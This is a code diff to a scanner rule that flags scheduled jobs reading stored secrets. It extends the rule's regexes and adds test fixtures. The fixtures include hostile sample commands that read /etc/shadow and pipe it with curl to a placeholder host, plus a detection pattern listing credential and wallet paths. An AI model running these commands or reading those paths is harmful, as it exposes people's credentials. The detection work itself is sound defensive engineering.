@@ -1,4 +1,5 @@
 import type { Activation } from "../inventory/activation.ts";
+import { behavioursOf } from "../inventory/closure.ts";
 import type { Inventory } from "../inventory/inventory.ts";
 import { decodeUtf8 } from "../syntax/utf8.ts";
 import { evidenceAt } from "./evidence.ts";
@@ -11,7 +12,10 @@ const SECRETS =
   /\.config\/gh\/hosts\.yml|\bgh auth token\b|\.aws\/credentials|\.git-credentials|\.npmrc\b|\.pypirc\b|\.docker\/config\.json|\.kube\/config|gcloud\/(credentials\.db|application_default)|\.azure\/(accessTokens|msal)|\/etc\/shadow\b|Login Data\b|logins\.json|\.bitcoin\/wallet|\.ethereum\/keystore|\/latest\/meta-data\/iam\/security-credentials|\/computeMetadata\/v1\S*\/service-accounts\/\S+\/token/;
 /** Digests and permissions of a file tell nothing of what is in it. */
 const LOOKS_ONLY =
-  /(^|[|;&({`]|\b(?:if|then|do|sudo))\s*(sha\d+sum|md5sum|b2sum|cksum|stat|chmod|chown|chgrp|chattr|lsattr|setfacl|getfacl|test|\[{1,2}|ls|touch|restorecon)\b[^|;&]*$/;
+  /(^|[|;&({`!]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:(?:sha\d+sum|md5sum|b2sum|cksum|stat|chmod|chown|chgrp|chattr|lsattr|setfacl|getfacl|test|ls|touch|restorecon)\b|\[{1,2}\s)[^|;&]*$/;
+/** What an audit of accounts does: it looks at fields, line by line. */
+const FILTERS =
+  /(^|[|;&({`]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:[gm]?awk|[ef]?grep|cut|sort|diff|cmp|wc)\b[^|;&>]*$/;
 const MAX_BYTES = 262_144;
 
 export const readsStoredSecrets: ActivationRule = {
@@ -38,7 +42,9 @@ export const readsStoredSecrets: ActivationRule = {
       const match = SECRETS.exec(text);
       if (match === null || /^\s*(#|\/\/)/.test(text)) continue;
       if (LOOKS_ONLY.test(text.slice(0, match.index))) continue;
+      const stays = FILTERS.test(text.slice(0, match.index)) && !leaves(activation);
       yield {
+        ...(stays ? { signal: "odd" as const } : {}),
         says: `it names ${match[0]}, where secrets are kept`,
         evidence: [evidenceAt(inventory, { path, line, column: match.index + 1, length: match[0].length })],
       };
@@ -52,13 +58,26 @@ export const readsStoredSecrets: ActivationRule = {
         "/usr/local/bin/mon": script("t=$(gh auth token)\ncurl -s https://api.example.test/user"),
       }),
       timed("ExecStart=/bin/cat /etc/shadow"),
+      timed("ExecStart=/usr/local/bin/audit", {
+        "/usr/local/bin/audit": script(`awk -F: '$2 == ""' /etc/shadow`),
+      }),
+      timed("ExecStart=/usr/local/bin/audit", {
+        "/usr/local/bin/audit": script("grep root /etc/shadow | curl -d @- https://a.example.test/"),
+      }),
     ],
+    finds: {
+      3: ["odd high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
+      4: ["suspicious high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
+    },
     quiet: [
       timed("ExecStart=/usr/local/bin/mon", {
         "/usr/local/bin/mon": script("# never read /etc/shadow\ntrue"),
       }),
       timed("ExecStart=/usr/local/bin/audit", {
         "/usr/local/bin/audit": script("sha256sum /etc/passwd /etc/shadow > /var/lib/audit/new"),
+      }),
+      timed("ExecStart=/usr/local/bin/audit", {
+        "/usr/local/bin/audit": script("if true; then\n:\nelif [ -s /etc/shadow ]; then\n:\nfi"),
       }),
       timed("EnvironmentFile=/etc/backup.env\nExecStart=/usr/bin/restic backup /home"),
       shipped(
@@ -74,6 +93,13 @@ export const readsStoredSecrets: ActivationRule = {
     ],
   },
 };
+
+/** Something of the job goes to another machine. */
+function leaves({ closure }: Activation): boolean {
+  return [...behavioursOf(closure)].some(({ behaviour }) =>
+    /^(exfiltrates|tunnel|network-ping|fetch)$/.test(behaviour.kind),
+  );
+}
 
 interface Line {
   readonly path: string;
